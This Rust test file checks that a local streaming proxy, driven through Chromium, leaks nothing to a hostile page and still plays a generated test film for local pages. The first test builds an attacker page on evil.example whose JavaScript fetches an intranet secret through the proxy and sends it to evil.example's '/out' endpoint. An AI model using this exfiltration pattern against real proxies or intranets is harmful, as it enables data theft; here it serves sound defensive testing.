//! Pages in Chromium before the local endpoint: a hostile one gets nothing through it, a local one plays a
//! film. Where Chromium is missing the test skips and says so.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

mod browser_support;
mod play_support;

use std::net::SocketAddr;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use browser_support::Browser;
use play_support::{LIMIT, Origin, Program, raw_origin, tool};

/// Waits for what has to come.
#[track_caller]
fn wait_until(what: &str, is_so: impl Fn() -> bool) {
    let began = Instant::now();
    while !is_so() {
        assert!(began.elapsed() < LIMIT, "{what} has not come");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// How long is waited for what must not come.
const A_WHILE: Duration = Duration::from_secs(2);

type Seen = Arc<Mutex<Vec<String>>>;

fn proxy() -> (Program, SocketAddr) {
    let mut program = Program::start(["proxy", "--listen", "127.0.0.1:0"]);
    let (address, _) = program.endpoint();
    (program, address)
}

fn page(body: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into()
}

fn path(head: &str) -> &str {
    head.split(' ').nth(1).unwrap_or_default()
}

/// A page of evil.example, and one that it has the proxy bring, try all ways to a server of this network.
#[test]
fn a_hostile_page_reads_nothing_through_the_proxy() {
    let (_program, proxy) = proxy();
    let asked = Seen::default();
    let seen = asked.clone();
    let intranet = raw_origin(move |head| {
        seen.lock().unwrap().push(path(head).to_owned());
        page("the secret of the intranet")
    });
    let told = Seen::default();
    let seen = told.clone();
    let evil = raw_origin(move |head| {
        seen.lock().unwrap().push(path(head).to_owned());
        let host = head.lines().find(|line| line.to_ascii_lowercase().starts_with("host:"));
        let port = host.and_then(|host| host.rsplit(':').next()).unwrap_or_default();
        // What the proxy brings is seen as from there: it asks for the secret as for its own.
        let read = |name: &str| {
            format!(
                "fetch('http://{proxy}/http://{intranet}/{name}').then(answer => answer.text())\
                 .then(text => fetch('http://evil.example:{port}/out?' + encodeURIComponent(text), \
                 {{mode: 'no-cors'}}))"
            )
        };
        let own = format!("http://{proxy}/http://127.0.0.1:{port}/evil.html");
        match path(head) {
            "/evil.html" => page(&format!("<script>{}</script>", read("brought"))),
            "/" => page(&format!(
                "<img src='http://{proxy}/http://{intranet}/image'>\
                 <video autoplay src='http://{proxy}/http://{intranet}/video' \
                 referrerpolicy=no-referrer></video>\
                 <script src='http://{proxy}/http://{intranet}/script'></script>\
                 <iframe src='{own}'></iframe>\
                 <iframe sandbox='allow-scripts' srcdoc=\"<script>{}</script>\"></iframe>\
                 <script>onload = () => {}.catch(() => 0).then(() => fetch('/tried')).then(() => location = \
                 '{own}')</script>",
                read("sandboxed"),
                read("fetched"),
            )),
            _ => page(""),
        }
    });
    let has_tried = |told: &Seen, name: &str| told.lock().unwrap().iter().any(|path| path == name);
    let assert_nothing_came = || {
        std::thread::sleep(A_WHILE);
        let told = told.lock().unwrap();
        assert!(!told.iter().any(|path| path.starts_with("/out")), "sent out: {told:?}");
        let asked = asked.lock().unwrap();
        assert!(asked.is_empty(), "fetched for the page: {asked:?}");
    };
    let Some(browser) = Browser::open(&format!("http://evil.example:{}/", evil.port())) else { return };
    wait_until("the page", || has_tried(&told, "/tried"));
    assert_nothing_came();
    drop(browser);
    assert!(!has_tried(&told, "/evil.html"), "the proxy has brought a page for a page");
    // Typed at the address bar, or clicked in a mail: the proxy brings it, and nothing in it runs.
    let _browser = Browser::open(&format!("http://{proxy}/http://{evil}/evil.html"));
    wait_until("the request for the page", || has_tried(&told, "/evil.html"));
    assert_nothing_came();
}

/// A `<video>` and a script that reads ranges, as hls.js and dash.js do. It tells how it goes.
const PLAYER: &str = r#"<video muted autoplay></video><script>
const say = text => new Image().src = "TELL?" + encodeURIComponent(text);
const film = "FILM", video = document.querySelector("video");
video.onerror = () => say("no film");
video.onended = () => say("played " + video.videoWidth + "x" + video.videoHeight);
video.src = film;
fetch(film, { headers: { Range: "bytes=0-99" } })
    .then(answer => answer.arrayBuffer().then(body =>
        say(`read ${answer.status} ${body.byteLength} ${answer.headers.get("Content-Range")}`)))
    .catch(() => say("not read"));
</script>"#;

/// Two things that a page has told.
fn two_words(told: &Seen) -> Vec<String> {
    wait_until("what the page has to tell", || told.lock().unwrap().len() >= 2);
    let mut words: Vec<_> = std::mem::take(&mut *told.lock().unwrap());
    words.sort();
    words
}

/// A server that keeps what it is told at `/tell`, and answers everything else with a page.
fn listener(page_of: impl Fn() -> String + Send + Sync + 'static) -> (SocketAddr, Seen) {
    let told = Seen::default();
    let seen = told.clone();
    let address = raw_origin(move |head| {
        if let Some(word) = path(head).strip_prefix("/tell?") {
            let word = percent_encoding::percent_decode_str(word).decode_utf8_lossy().into_owned();
            seen.lock().unwrap().push(word);
        }
        if path(head) == "/" { page(&page_of()) } else { page("") }
    });
    (address, told)
}

fn film(directory: &Path) -> Option<u64> {
    let path = directory.join("film.webm");
    let source = ["-v", "error", "-f", "lavfi", "-i", "testsrc2=size=160x90:rate=10", "-t", "1"];
    let output = tool("ffmpeg", &[&source[..], &["-c:v", "libvpx", path.to_str().unwrap()]].concat())?;
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Some(std::fs::metadata(path).unwrap().len())
}

#[test]
fn a_local_page_plays_a_film_through_the_proxy() {
    let directory = tempfile::tempdir().unwrap();
    let Some(size) = film(directory.path()) else { return };
    let origin = Origin::start(directory.path(), None);
    let (_program, proxy) = proxy();
    let address = format!("http://{proxy}/{}", origin.url("film.webm"));
    let (local, told) = listener(move || PLAYER.replace("TELL", "/tell").replace("FILM", &address));
    let Some(_browser) = Browser::open(&format!("http://localhost:{}/", local.port())) else { return };
    assert_eq!(two_words(&told), ["played 160x90".into(), format!("read 206 100 bytes 0-99/{size}")]);
}

#[test]
fn a_page_in_a_file_plays_a_film_only_where_that_was_allowed() {
    let directory = tempfile::tempdir().unwrap();
    let Some(size) = film(directory.path()) else { return };
    let origin = Origin::start(directory.path(), None);
    let (local, told) = listener(String::new);
    for is_allowed in [true, false] {
        let options: &[&str] = if is_allowed { &["--allow-origin", "null"] } else { &[] };
        let mut program = Program::start([&["play", &origin.url("film.webm")], options].concat());
        let (address, path) = program.endpoint();
        let file = directory.path().join("page.html");
        let film = format!("http://{address}{path}");
        let page = PLAYER.replace("TELL", &format!("http://{local}/tell")).replace("FILM", &film);
        std::fs::write(&file, page).unwrap();
        let Some(_browser) = Browser::open(&format!("file://{}", file.display())) else { return };
        let expected = match is_allowed {
            true => ["played 160x90".into(), format!("read 206 100 bytes 0-99/{size}")],
            false => ["no film".into(), "not read".into()],
        };
        assert_eq!(two_words(&told), expected);
    }
}
